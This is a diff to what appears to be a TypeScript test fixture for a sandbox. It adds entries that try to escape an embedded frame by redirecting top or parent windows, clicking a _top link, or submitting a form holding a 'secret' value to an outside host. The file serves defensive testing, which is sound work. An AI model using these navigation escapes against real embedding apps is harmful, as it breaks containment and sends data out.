@@ -466,6 +466,34 @@ export const windowNavigation: readonly WindowAttempt[] = (
       control: 'request',
     },
     {
+      id: 'topHref',
+      name: 'another address for the whole app',
+      code: `top.location.href = outside + 'x';`,
+      control: 'request',
+      top: true,
+    },
+    {
+      id: 'parentReplace',
+      name: 'another address for what is around it',
+      code: `parent.location.replace(outside + 'x');`,
+      control: 'request',
+      top: true,
+    },
+    {
+      id: 'topLink',
+      name: 'a link that is to replace the app',
+      code: `const a = document.createElement('a'); a.href = outside + 'x'; a.target = '_top'; root.append(a); a.click();`,
+      control: 'request',
+      top: true,
+    },
+    {
+      id: 'topForm',
+      name: 'a form that is to replace the app',
+      code: `root.innerHTML = '<form target="_top" action="' + outside + 'x"><input name="a" value="secret"></form>'; root.firstElementChild.submit();`,
+      control: 'request',
+      top: true,
+    },
+    {
       id: 'formSelf',
       name: 'a form that replaces the document',
       code: `root.innerHTML = '<form action="' + outside + 'x"><input name="a" value="secret"></form>'; root.firstChild.submit();`,
@@ -508,4 +536,4 @@ export const windowNavigation: readonly WindowAttempt[] = (
       control: 'request',
     },
   ] satisfies Omit<WindowAttempt, 'leaves'>[]
-).map((attempt) => ({ ...attempt, leaves: true }));
+).map((attempt: Omit<WindowAttempt, 'leaves'>) => ({ ...attempt, leaves: true }));
